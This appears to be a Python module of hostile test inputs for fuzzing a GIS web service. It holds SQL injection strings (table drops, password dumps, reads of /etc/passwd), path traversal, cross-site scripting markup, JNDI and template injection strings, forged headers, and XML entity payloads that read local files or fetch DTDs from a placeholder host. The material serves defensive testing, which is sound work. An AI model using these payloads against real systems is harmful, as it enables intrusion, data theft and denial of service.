"""Pieces of hostile requests, by what they try (the rows of the history of holes in docs/security.md)."""

import json
from random import Random

# A literal that ends early, a comment, a second statement, a wait, an error that tells.
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE land_parcel; --",
    "x') OR 1=1 --",
    '" OR ""="',
    "1; SELECT pg_sleep(20)",
    "' UNION SELECT password FROM gis_core_user --",
    "%' AND 1=CAST((SELECT version()) AS int) AND '%'='",
    "\\'; SELECT 1 --",
    "$$;SELECT 1;$$",
    "E'\\x27'",
    "' || pg_read_file('/etc/passwd') || '",
    "\u02bc OR 1=1 --",
    "1e309",
    "-9223372036854775809",
    "\u0000",
    "NaN",
)
NAMES = (
    "exec(java.lang.Runtime.getRuntime(),'id')",
    "password",
    "admin_unit__path",
    "pk__in",
    "holder",
    "__class__.__init__.__globals__",
    "id) FROM gis_core_user --",
    "created_by__password",
    "reporter.phone",
    "../../secret",
    "valueReference(1)",
    "*",
    "{{7*7}}",
    "${jndi:ldap://CANARY/x}",
    "geom.ST_AsText",
)
PATHS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "%00",
    "..%5c..%5cwindows%5cwin.ini",
    "C:%5c",
    "file:%2f%2f%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "%c0%ae%c0%ae/etc/passwd",
    "~root",
    ".git/config",
    ".env",
    "static/../../manage.py",
    "/vsicurl/http://CANARY/x.tif",
    "/vsizip//etc/passwd",
)
MARKUP = (
    "<hostile-x>",
    "<script>hostile()</script>",
    '"><img src=x onerror=hostile()>',
    "'-hostile()-'",
    "</script><hostile-x>",
    "<svg/onload=hostile()>",
    "javascript:hostile()",
    "<!--<hostile-x>",
    "{{constructor.constructor('hostile()')()}}",
    "\u202ehostile",
)
FETCHES = (
    "http://CANARY/x",
    "http://CANARY/x.sld",
    "https://CANARY/",
    "ftp://CANARY/x",
    "//CANARY/x",
    "gopher://CANARY/_x",
    "jar:http://CANARY!/x",
)
HEADERS: tuple[dict[str, str], ...] = (
    {"Host": "CANARY"},
    {"X-Forwarded-Host": "CANARY"},
    {"X-Forwarded-For": "127.0.0.1, ::1"},
    {"X-Original-URL": "/admin/"},
    {"X-Rewrite-URL": "/metrics"},
    {"X-HTTP-Method-Override": "DELETE"},
    {"Authorization": "Basic " + "A" * 4000},
    {"Authorization": "Bearer \xff\xfe"},
    {"Authorization": "Negotiate TlRMTVNTUAAB"},
    {"Cookie": "ioc_pass=WzEsICIiLCAiIiwgOTk5OTk5OTk5OV0:1aaaaa:bbbbbbbb"},
    {"Cookie": "sessionid=../../../etc/passwd"},
    {"Cookie": "; ".join(f"c{number}=x" for number in range(300))},
    {"If-None-Match": "*"},
    {"If-None-Match": '"' + "a" * 3000 + '"'},
    {"If-Match": "*, *, W/*"},
    {"Range": "bytes=0-1,2-3,4-5,6-7,8-9"},
    {"Range": "bytes=99999999999999999999-"},
    {"Accept": "application/" + "x" * 3000},
    {"Accept": ",".join(f"a/b;q=0.{number}" for number in range(400))},
    {"Accept-Language": "../../../etc/passwd"},
    {"Accept-Encoding": "gzip;q=nan, br;q=1e99, *;q=-1"},
    {"Content-Type": "application/xml; charset=utf-7"},
    {"Content-Type": "multipart/form-data; boundary="},
    {"Last-Event-ID": "9" * 400},
    {"Last-Event-ID": "-1"},
    {"X-Request-Id": "\t{forged}"},
    {"Origin": "null"},
    {"Expect": "100-continue"},
    {"Transfer-Encoding": "identity"},
    {"Upgrade": "h2c", "Connection": "Upgrade, HTTP2-Settings", "HTTP2-Settings": "AAMAAABkAAQAAP__"},
)


def doctype(chance: Random) -> str:
    """A DOCTYPE that reads a file, calls somebody, or laughs a billion times."""
    return chance.choice(
        (
            '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE x SYSTEM "http://CANARY/x.dtd">',
            '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://CANARY/p.dtd"> %p;]>',
            "<!DOCTYPE x [" + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9)) + '<!ENTITY e0 "ha">]>',
        )
    )


def nested(depth: int, opening: str, closing: str, core: str = "") -> str:
    """Something in itself."""
    return opening * depth + core + closing * depth


def cql_bomb(chance: Random) -> str:
    """A filter that is too deep, too wide, or too long, as text or JSON."""
    kind = chance.randrange(5)
    if kind == 0:
        return nested(chance.choice((40, 500, 5000)), "NOT (", ")", "id = 1")
    if kind == 1:
        return " OR ".join(f"id = {number}" for number in range(chance.choice((300, 2000))))
    if kind == 2:
        return json.dumps({"op": "and", "args": [{"op": "=", "args": [{"property": "id"}, n]} for n in range(400)]})
    if kind == 3:
        return '{"op":"not","args":[' * 800 + "true" + "]}" * 800
    return f"name LIKE '{'%a' * chance.choice((60, 4000))}'"


def star(corners: int) -> str:
    """A polygon whose every edge crosses many others: valid in form, a trap for repairs."""
    ring = [(108.4 + 0.1 * (number * 7919 % corners) / corners, 15.5 + 0.1 * (number % 2)) for number in range(corners)]
    return "POLYGON((" + ",".join(f"{x} {y}" for x, y in [*ring, ring[0]]) + "))"
